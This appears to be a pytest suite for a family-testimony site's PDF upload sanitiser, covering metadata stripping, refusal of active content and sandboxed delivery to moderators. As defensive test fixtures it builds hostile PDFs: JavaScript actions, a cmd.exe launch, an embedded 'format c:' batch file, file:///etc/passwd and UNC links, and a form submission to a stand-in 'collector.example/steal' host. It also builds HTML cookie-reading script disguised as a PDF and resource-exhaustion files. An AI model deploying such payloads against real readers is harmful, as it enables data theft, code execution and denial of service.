"""Families' PDFs arrive without active content and without their authors' metadata, and
reach moderators only sandboxed."""

import time
from io import BytesIO

import pytest
from django.contrib.auth.models import Group, User
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.errors import PdfReadError
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from memorial.base.roles import MODERATOR
from people.models import Attachment, PendingUpload, Testimony
from tests.factories import filled_testimony_form, jpeg_with_gps

pytestmark = pytest.mark.django_db

XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    b"<dc:creator>XMPAUTHOR Aigerim</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
    b'<?xpacket end="w"?>'
)


@pytest.fixture(autouse=True)
def fresh_rate_limits():
    from django.core.cache import cache

    cache.clear()


def name(value):
    return NameObject(value)


def action(kind, **entries):
    return DictionaryObject(
        {name("/S"): name(kind), **{name(f"/{key}"): value for key, value in entries.items()}}
    )


def annotate(writer, subtype="/Text", **entries):
    """An annotation on the first page, an indirect object of its own."""
    annotation = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name(subtype),
            name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 100, 30)]),
            **{name(f"/{key}"): value for key, value in entries.items()},
        }
    )
    return writer.add_annotation(0, annotation)


def link_to(writer, target):
    annotate(writer, "/Link", A=target)


def make_pdf(change=None, pages=2):
    """A real PDF with its author in /Info, changed by change(writer) first."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    writer.add_metadata({"/Author": "INFOAUTHOR Aigerim", "/Title": "Letters"})
    if change:
        change(writer)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def upload(data, filename="letters.pdf"):
    return SimpleUploadedFile(filename, data, content_type="application/pdf")


def post(client, files, data=None):
    # The form as a family sends it: opened a minute ago, past the minimum-time guard.
    payload = {**(data or filled_testimony_form()), "attachments": files}
    return client.post("/en/testimony/", payload)


def with_page_metadata(writer):
    """XMP on the catalog, on the first page and on an image, as scanners and editors write."""
    writer.xmp_metadata = XMP
    stream = writer.root_object.raw_get("/Metadata")
    writer.pages[0][name("/Metadata")] = stream
    for image in writer.pages[0]["/Resources"]["/XObject"].values():
        image.get_object()[name("/Metadata")] = stream
    assert b"XMPAUTHOR" in stream.get_object().get_data()


def scanned_pdf(change=None, pages=2):
    """A PDF of scanned pages (as Pillow writes it) with its author in /Info."""
    buffer = BytesIO()
    scans = [Image.new("L", (300, 400), 200) for _ in range(pages)]
    scans[0].save(buffer, "PDF", save_all=True, append_images=scans[1:])
    writer = PdfWriter(clone_from=BytesIO(buffer.getvalue()))
    writer.add_metadata({"/Author": "INFOAUTHOR Aigerim", "/Creator": "ScannerSoft"})
    if change:
        change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def fake_with_html():
    """The issue's example: PDF markers around a web page."""
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"


def html_between_objects():
    data = make_pdf()
    at = data.index(b"2 0 obj")
    return data[:at] + b"<script>alert(1)</script>\n" + data[at:]


def text(value):
    return TextStringObject(value)


def stream(writer, data=b"", **entries):
    """A stream object of the document (3D data, a sound, a media clip...). pypdf makes new
    indirect streams publicly only as the catalog's XMP stream: made so, then taken off it."""
    writer.xmp_metadata = data
    reference = writer.root_object.raw_get("/Metadata")
    del writer.root_object["/Metadata"]
    body = reference.get_object()
    body.update({name(f"/{key}"): value for key, value in entries.items()})
    return reference


def annotated(subtype, **entries):
    """A PDF whose first page has an annotation of subtype, its entries made by the writer."""
    return lambda: make_pdf(lambda w: annotate(w, subtype, **{k: v(w) for k, v in entries.items()}))


def linked(kind, **entries):
    """A PDF whose first page links to an action of kind."""
    return lambda: make_pdf(lambda w: link_to(w, action(kind, **entries)))


UNC = "\\\\fileserver\\share\\x.pdf"
ACTIVE = "Printing it to a new PDF, or sending photos of its pages, avoids this."
OUTSIDE = "it opens other files or addresses, or sends data elsewhere."
MEDIA = "it contains embedded media or 3D content."
REFUSED = [
    (
        "names-tree-js.pdf",
        lambda: make_pdf(lambda w: w.add_open_action(JavaScript("app.alert(1)"))),
        "it contains JavaScript. " + ACTIVE,
    ),
    (
        "open-action.pdf",
        lambda: make_pdf(lambda w: w.root_object.__setitem__(name("/OpenAction"), action("/GoTo"))),
        "it runs actions by itself when it is opened or read.",
    ),
    (
        "page-aa.pdf",
        lambda: make_pdf(
            lambda w: w.pages[0].__setitem__(
                name("/AA"),
                DictionaryObject(
                    {name("/O"): action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
                ),
            )
        ),
        "it runs actions by itself when it is opened or read.",
    ),
    (
        "launch.pdf",
        lambda: make_pdf(lambda w: link_to(w, action("/Launch", F=TextStringObject("cmd.exe")))),
        "it would launch a program.",
    ),
    (
        "attached.pdf",
        lambda: make_pdf(lambda w: w.add_attachment("run.bat", b"format c:")),
        "it has files embedded in it.",
    ),
    (
        "xfa.pdf",
        lambda: make_pdf(
            lambda w: w.root_object.__setitem__(
                name("/AcroForm"),
                DictionaryObject(
                    {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp/>")}
                ),
            )
        ),
        "it is an XFA form.",
    ),
    (
        "remote.pdf",
        lambda: make_pdf(
            lambda w: link_to(w, action("/GoToR", F=TextStringObject("\\\\host\\share\\a.pdf")))
        ),
        "it opens other files or addresses, or sends data elsewhere.",
    ),
    (
        "file-link.pdf",
        lambda: make_pdf(
            lambda w: link_to(w, action("/URI", URI=TextStringObject("file:///etc/passwd")))
        ),
        "it opens other files or addresses, or sends data elsewhere.",
    ),
    (
        "locked.pdf",
        lambda: make_pdf(lambda w: w.encrypt("secret")),
        "it is encrypted or protected by a password.",
    ),
    (
        "rich-media.pdf",
        annotated(
            "/RichMedia",
            RichMediaContent=lambda w: DictionaryObject(
                {name("/Assets"): DictionaryObject({name("/Names"): ArrayObject()})}
            ),
        ),
        MEDIA,
    ),
    (
        "screen.pdf",
        annotated(
            "/Screen",
            # Play a media rendition whose clip is the document's own stream.
            A=lambda w: action(
                "/Rendition",
                OP=NumberObject(0),
                R=DictionaryObject(
                    {
                        name("/S"): name("/MR"),
                        name("/C"): DictionaryObject(
                            {name("/S"): name("/MCD"), name("/D"): stream(w, b"\0" * 64)}
                        ),
                    }
                ),
            ),
        ),
        MEDIA,
    ),
    ("rendition.pdf", linked("/Rendition", OP=NumberObject(0)), MEDIA),
    ("3d.pdf", annotated("/3D", **{"3DD": lambda w: stream(w, b"U3D", Type=name("/3D"))}), MEDIA),
    ("3d-view.pdf", linked("/GoTo3DView", V=NumberObject(0)), MEDIA),
    (
        "sound.pdf",
        annotated("/Sound", Sound=lambda w: stream(w, b"\0" * 64, R=NumberObject(8000))),
        MEDIA,
    ),
    ("sound-action.pdf", linked("/Sound", Sound=NumberObject(0)), MEDIA),
    (
        "movie.pdf",
        annotated("/Movie", Movie=lambda w: DictionaryObject({name("/F"): text("film.mov")})),
        MEDIA,
    ),
    ("movie-action.pdf", linked("/Movie", T=text("film")), MEDIA),
    (
        "submit.pdf",
        linked("/SubmitForm", F=text("https://collector.example/steal")),
        OUTSIDE,
    ),
    ("import.pdf", linked("/ImportData", F=text("data.fdf")), OUTSIDE),
    ("go-embedded.pdf", linked("/GoToE", NewWindow=BooleanObject(True)), OUTSIDE),
    ("thread-unc.pdf", linked("/Thread", D=NumberObject(0), F=text(UNC)), OUTSIDE),
    (
        "thread-url.pdf",
        linked(
            "/Thread",
            D=NumberObject(0),
            F=DictionaryObject({name("/FS"): name("/URL"), name("/F"): text("http://x/")}),
        ),
        OUTSIDE,
    ),
    (
        "unc-link.pdf",
        linked("/URI", URI=text(UNC)),
        OUTSIDE,
    ),
    (
        "external-stream.pdf",
        lambda: make_pdf(
            lambda w: w.pages[0].__setitem__(
                name("/Resources"),
                DictionaryObject(
                    {name("/External"): stream(w, F=DictionaryObject({name("/UF"): text(UNC)}))}
                ),
            )
        ),
        OUTSIDE,
    ),
    (
        "menu-command.pdf",
        linked("/Named", N=name("/Quit")),
        "it runs commands of the program it is opened in. " + ACTIVE,
    ),
    ("page.pdf", fake_with_html, "it is not a well-formed PDF document"),
    ("between.pdf", html_between_objects, "it is not a well-formed PDF document"),
    ("cut.pdf", lambda: make_pdf()[:-200], "it is not a well-formed PDF document"),
    ("garbage.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, "it is not a well-formed"),
]


@pytest.mark.parametrize(("filename", "build", "reason"), REFUSED)
def test_a_pdf_with_active_content_or_a_broken_one_is_refused_by_name(
    client, settings, filename, build, reason
):
    response = post(client, [upload(build(), filename)])
    assert response.status_code == 400
    page = response.content.decode().replace("\xa0", " ")
    assert f"“{filename}” was not accepted: {reason}" in page
    # What the family typed is shown again.
    assert "Айгерім Сапарова" in page and "My grandmother kept his letters" in page
    assert not Testimony.objects.exists() and not PendingUpload.objects.exists()
    assert not any(path.is_file() for path in settings.PRIVATE_MEDIA_ROOT.rglob("*"))


def test_the_refusal_is_in_the_familys_language(client):
    data = make_pdf(lambda w: w.add_open_action(JavaScript("app.alert(1)")))
    response = client.post(
        "/ru/testimony/", {**filled_testimony_form(), "attachments": [upload(data, "письмо.pdf")]}
    )
    page = response.content.decode()
    assert "Файл “письмо.pdf” не принят: в нём есть JavaScript." in page


def test_a_menu_command_is_refused_in_kazakh_too(client):
    data = make_pdf(lambda w: link_to(w, action("/Named", N=name("/Print"))))
    response = client.post(
        "/kk/testimony/", {**filled_testimony_form(), "attachments": [upload(data, "хат.pdf")]}
    )
    page = response.content.decode()
    assert "“хат.pdf” файлы қабылданбады: ол өзі ашылған бағдарламаның командаларын" in page


def stored_pdf(attachment):
    with attachment.file.open("rb") as handle:
        return handle.read()


def test_a_clean_pdf_is_kept_without_its_authors_metadata(client):
    sent = scanned_pdf(with_page_metadata, pages=3)
    assert b"INFOAUTHOR" in sent and b"XMPAUTHOR" in sent and b"ScannerSoft" in sent
    assert post(client, [upload(sent)]).status_code == 302
    attachment = Attachment.objects.get()
    stored = stored_pdf(attachment)
    assert b"INFOAUTHOR" not in stored and b"XMPAUTHOR" not in stored
    assert b"ScannerSoft" not in stored and b"pypdf" not in stored
    reader = PdfReader(BytesIO(stored), strict=True)
    assert len(reader.pages) == 3
    assert len(reader.pages[2].images) == 1  # the scans themselves are kept
    assert reader.metadata is None  # no /Info: no Author, Producer, Title
    assert "/Metadata" not in reader.trailer["/Root"]
    assert all("/Metadata" not in page for page in reader.pages)
    assert attachment.size == len(stored) and attachment.content_type == "application/pdf"


def test_web_links_cycles_and_an_opening_page_are_harmless_and_kept(client):
    def change(writer):
        link_to(writer, action("/URI", URI=TextStringObject("https://www.memorial.kz/")))
        # Two objects that refer to each other (as every page and its /Parent do): the check
        # must not go round forever.
        first, second = annotate(writer), annotate(writer)
        first[name("/Next")] = second.indirect_reference
        second[name("/Next")] = first.indirect_reference
        writer.root_object[name("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, name("/Fit")]
        )

    assert post(client, [upload(make_pdf(change))]).status_code == 302
    reader = PdfReader(BytesIO(stored_pdf(Attachment.objects.get())))
    assert reader.pages[0]["/Annots"][0].get_object()["/A"]["/URI"] == "https://www.memorial.kz/"


HARMLESS = [
    action("/GoTo", D=ArrayObject([NumberObject(1), name("/Fit")])),
    action("/Thread", D=NumberObject(0)),  # an article of this document
    action("/Hide", T=text("note"), H=BooleanObject(True)),
    action("/SetOCGState", State=ArrayObject([name("/Toggle")])),
    action("/Trans", Trans=DictionaryObject({name("/S"): name("/Dissolve")})),
    action("/ResetForm"),
    action("/Named", N=name("/NextPage")),
]


def test_actions_that_stay_inside_the_document_are_kept(client):
    def change(writer):
        for target in HARMLESS:
            link_to(writer, target)
        # An article thread: its /F is its first bead, on a page of this document.
        bead = DictionaryObject(
            {name("/P"): writer.pages[1].indirect_reference, name("/R"): ArrayObject()}
        )
        writer.root_object[name("/Threads")] = ArrayObject([DictionaryObject({name("/F"): bead})])

    assert post(client, [upload(make_pdf(change))]).status_code == 302
    reader = PdfReader(BytesIO(stored_pdf(Attachment.objects.get())))
    links = [link.get_object()["/A"] for link in reader.pages[0]["/Annots"]]
    assert [link["/S"] for link in links] == [target["/S"] for target in HARMLESS]


def shifted(data, junk=b"% scanned by ScanMaster 2000\n"):
    """The file with bytes slipped in before its first object, as some scanners write: every
    offset in its cross-reference table is off by their length."""
    at = data.index(b"1 0 obj")
    return data[:at] + junk + data[at:]


def test_a_pdf_with_shifted_offsets_is_accepted_and_rewritten(client):
    sent = shifted(scanned_pdf(with_page_metadata, pages=3))
    with pytest.raises(PdfReadError):  # what the strict parse refused
        PdfReader(BytesIO(sent), strict=True).pages[0]
    assert post(client, [upload(sent, "scan.pdf")]).status_code == 302
    stored = stored_pdf(Attachment.objects.get())
    assert b"INFOAUTHOR" not in stored and b"XMPAUTHOR" not in stored
    assert b"ScanMaster" not in stored  # not the bytes as sent: pypdf's copy
    reader = PdfReader(BytesIO(stored), strict=True)  # and that copy is well formed
    assert len(reader.pages) == 3 and len(reader.pages[2].images) == 1
    assert reader.metadata is None and "/Metadata" not in reader.trailer["/Root"]


def test_a_repaired_pdf_is_checked_like_any_other(client):
    data = shifted(make_pdf(lambda w: link_to(w, action("/Launch", F=text("cmd.exe")))))
    response = post(client, [upload(data, "scan.pdf")])
    assert "“scan.pdf” was not accepted: it would launch a program." in response.content.decode()


def test_a_pdf_cut_short_of_its_end_marker_is_refused(client):
    data = make_pdf()
    # Whole objects, the cross-reference table and its trailer: only "F\n" of the end marker is
    # gone (pypdf, strict or not, would read on).
    assert data.endswith(b"%%EOF\n")
    response = post(client, [upload(data[:-2], "cut.pdf")])
    assert "“cut.pdf” was not accepted: it is not a well-formed PDF" in response.content.decode()


def claiming_many_objects(count=400_000):
    """8 MB of cross-reference entries that point nowhere, behind a trailer with "/Prev 0"
    (an error to the strict parse): a lenient one would try each entry, for some 10 seconds."""
    data = make_pdf(pages=1)
    at = data.index(b"xref")
    trailer = data[data.index(b"trailer") : data.index(b"startxref")]
    trailer = trailer.replace(b"/Size", b"/Prev 0\n/Size")
    entries = b"0000000000 65535 f \n" + b"0000000001 00000 n \n" * count
    return b"".join(
        [data[:at], b"xref\n0 %d\n" % (count + 1), entries, trailer]
        + [b"startxref\n%d\n%%%%EOF\n" % at]
    )


def test_a_damaged_pdf_claiming_many_objects_is_refused_quickly(client):
    started = time.monotonic()
    response = post(client, [upload(claiming_many_objects(), "huge.pdf")])
    assert "“huge.pdf” was not accepted: it has too many parts to be checked." in (
        response.content.decode()
    )
    assert time.monotonic() - started < 7


def test_absurd_nesting_is_refused_not_followed(client):
    # Same length as what replaces it, so the cross-reference offsets stay right.
    placeholder = "/N" + "x" * 19_998
    data = make_pdf(lambda w: w.pages[0].__setitem__(name("/Deep"), name(placeholder)))
    data = data.replace(placeholder.encode(), b"[" * 10_000 + b"]" * 10_000)
    response = post(client, [upload(data, "deep.pdf")])
    assert "“deep.pdf” was not accepted: it is not a well-formed PDF" in response.content.decode()


def test_too_many_objects_are_refused_quickly(client, settings, monkeypatch):
    monkeypatch.setattr("people.pdf_cleaning.MAX_OBJECTS", 50)

    def many(writer):
        for _ in range(60):
            annotate(writer)

    response = post(client, [upload(make_pdf(many), "big.pdf")])
    assert "“big.pdf” was not accepted: it has too many parts to be checked." in (
        response.content.decode()
    )


def test_a_pdf_kept_while_the_form_is_shown_again_was_cleaned_too(client):
    sent = scanned_pdf(with_page_metadata)
    response = post(client, [upload(sent)], filled_testimony_form(consent_processing=""))
    assert response.status_code == 400
    kept = PendingUpload.objects.get()
    with kept.file.open("rb") as handle:
        pending = handle.read()
    assert b"INFOAUTHOR" not in pending and b"XMPAUTHOR" not in pending
    form = response.context["form"]
    again = filled_testimony_form(
        upload_token=form.data["upload_token"], keep_files=form.data.getlist("keep_files")
    )
    assert client.post("/en/testimony/", again).status_code == 302
    stored = stored_pdf(Attachment.objects.get())
    assert b"INFOAUTHOR" not in stored and len(PdfReader(BytesIO(stored)).pages) == 2


@pytest.fixture
def moderator(client):
    user = User.objects.create_user("moderator", "mod@example.kz", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name=MODERATOR))
    return user


def attachment_url(attachment):
    return f"/admin/people/testimony/{attachment.testimony_id}/attachments/{attachment.pk}/"


def test_moderators_get_attachments_sandboxed_unsniffed_uncached_and_named(client, moderator):
    post(client, [upload(make_pdf(), "Хат 1937.pdf"), jpeg_with_gps("suret.jpg")])
    document, photo = Attachment.objects.order_by("pk")
    client.force_login(moderator)
    response = client.get(attachment_url(document))
    assert response.status_code == 200
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    # Downloaded under the family's name, written safely for a header (RFC 5987).
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%D0%A5%D0%B0%D1%82%201937.pdf"
    )
    assert b"".join(response.streaming_content) == stored_pdf(document)
    response = client.get(attachment_url(photo))
    assert response["Content-Disposition"] == 'inline; filename="suret.jpg"'
    assert response["Content-Security-Policy"] == "sandbox"


def test_attachments_are_not_under_the_public_media_address(client, moderator):
    post(client, [upload(make_pdf())])
    attachment = Attachment.objects.get()
    client.force_login(moderator)  # not even staff reach it there
    assert client.get(f"/media/{attachment.file.name}").status_code == 404
    assert client.get(attachment_url(attachment)).status_code == 200
